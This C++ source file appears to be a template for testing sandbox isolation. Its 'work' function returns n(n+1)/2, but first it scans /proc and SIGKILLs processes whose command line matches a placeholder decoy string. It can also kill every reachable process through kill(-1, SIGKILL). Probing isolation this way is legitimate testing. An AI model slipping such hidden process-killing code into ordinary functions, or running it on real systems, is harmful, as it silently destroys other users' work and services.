#include <csignal>
#include <cstdlib>
#include <dirent.h>
#include <fstream>
#include <iterator>
#include <string>
#include <unistd.h>

long long work(long long n) {
    if (DIR* proc = opendir("/proc")) {
        while (dirent* entry = readdir(proc)) {
            int pid = std::atoi(entry->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            std::ifstream cmdline(std::string("/proc/") + entry->d_name + "/cmdline");
            std::string text((std::istreambuf_iterator<char>(cmdline)), std::istreambuf_iterator<char>());
            if (text.find("@DECOY@") != std::string::npos) kill(pid, SIGKILL);
        }
        closedir(proc);
    }
    if (@KILLALL@) kill(-1, SIGKILL);
    return n * (n + 1) / 2;
}
